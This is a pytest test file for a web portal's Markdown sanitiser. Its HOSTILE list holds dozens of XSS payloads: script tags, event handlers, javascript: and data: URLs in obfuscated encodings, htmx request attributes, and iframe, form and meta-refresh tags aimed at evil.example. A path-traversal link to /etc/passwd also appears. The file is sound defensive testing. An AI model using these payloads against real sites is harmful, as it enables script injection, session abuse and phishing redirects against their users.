"""The one Markdown renderer: hostile input is neutralised, useful features survive."""
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from portal.markdown import render_article, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: <javascript:alert(1)> \"title\"",
    "[multi\nline\ntext](javascript:alert(1))",
    "[click\n\nhere](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<div hx-get=\"/admin/users\" hx-trigger=\"load\">x</div>",
    "<button hx-post=\"/logout\">x</button>",
    "<div data-hx-get=\"/x\" data-hx-trigger=\"load\">x</div>",
    "<div hx-on:click=\"alert(1)\">x</div>",
    "<div hx-on::load=\"alert(1)\">x</div>",
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input name=p><button>go</button></form>",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<base href=\"https://evil.example/\">",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "```html\n<script>alert(1)</script>\n```\n<script>alert(2)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<a href=\"x\" formaction=\"javascript:alert(1)\">x</a>",
    "# Heading <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "!!! note \"<script>alert(1)</script>\"\n    body",
]

ALLOWED_TAGS = {"a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em",
                "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "mark", "ol", "p", "pre",
                "s", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
                "tr", "ul", "caption"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def dangers(html: str) -> list[str]:
    """Everything in `html` a browser (or htmx) could execute or that leaves our allow-list."""
    parser = _Collector()
    parser.feed(html)
    found = []
    for tag, attrs in parser.tags:
        if tag not in ALLOWED_TAGS:
            found.append(f"tag {tag}")
        for name, value in attrs:
            if name.startswith(("on", "hx-", "data-", "style", "formaction", "srcdoc")):
                found.append(f"attribute {name}")
            if name in ("href", "src") and value:
                scheme = urlsplit(value.strip()).scheme.lower()
                if scheme not in ("", "http", "https", "mailto"):
                    found.append(f"{name} scheme {scheme}")
    return found


FORBIDDEN = ["<script", "<iframe", "<form", "<style", "style=", "<meta", "<svg", "<object", "<embed",
             "<link", "<base", "<input", "<button", "<math", "<textarea"]


def test_corpus_is_large_enough():
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize("source", HOSTILE)
@pytest.mark.parametrize("renderer", ["user", "article"])
def test_hostile_markdown_is_neutralised(source, renderer):
    if renderer == "user":
        html = str(render_markdown(source)).lower()
    else:
        html = str(render_article(source, "standards/x.md", lambda p: "/kb/" + p).html).lower()
    assert dangers(html) == [], html
    for needle in FORBIDDEN:  # as markup; text may mention "javascript:" harmlessly
        assert needle not in html, needle


def test_tables_code_admonitions_and_anchors_survive():
    text = ("# Title\n\n## RAG definitions\n\n| Rating | Meaning |\n|---|---|\n| Red | Off track |\n\n"
            "```python\ndef score(p, i):\n    return p * i\n```\n\n!!! warning \"Careful\"\n    Report Amber early.\n")
    doc = render_article(text, "standards/x.md")
    html = str(doc.html)
    assert "<table>" in html and "<td>Red</td>" in html
    assert '<div class="codehilite">' in html and '<span class="k">def</span>' in html
    assert '<div class="admonition warning">' in html and "Report Amber early." in html
    assert '<h2 id="rag-definitions">' in html and 'href="#rag-definitions"' in html
    assert 'href="#rag-definitions"' in str(doc.toc)


def test_safe_links_are_kept():
    html = str(render_markdown("[a](https://example.org/x) [b](mailto:pmo@example.org) [c](/kb/faq/x)"))
    assert 'href="https://example.org/x"' in html
    assert 'href="mailto:pmo@example.org"' in html
    assert 'href="/kb/faq/x"' in html


def test_relative_links_between_articles_become_portal_urls():
    doc = render_article("[risk](../standards/risk.md#scoring) ![d](img/a.png) [out](../../../etc/passwd)",
                         "training/01.md", lambda p: "/kb/" + p)
    html = str(doc.html)
    assert 'href="/kb/standards/risk.md#scoring"' in html
    assert 'src="/kb/training/img/a.png"' in html
    assert doc.links == ["standards/risk.md", "training/img/a.png"]
    assert doc.broken == ["../../../etc/passwd"]


def test_non_ascii_headings_get_anchors():
    doc = render_article("## Qualität & Überprüfung", "x.md")
    assert 'id="qualität-überprüfung"' in str(doc.html)


def test_the_checker_itself_catches_unsanitised_html():
    assert dangers('<img src=x onerror=alert(1)><a href="javascript:x">y</a><div hx-get="/x"></div>') == [
        "attribute onerror", "href scheme javascript", "attribute hx-get"]


def test_user_text_cannot_take_an_id_the_page_targets():
    from portal.markdown import render_markdown
    html = str(render_markdown('<a id="mentions-thread-project-1" href="/x">x</a>\n\n# Heading'))
    assert 'id="' not in html
    assert "<h1>Heading</h1>" in html
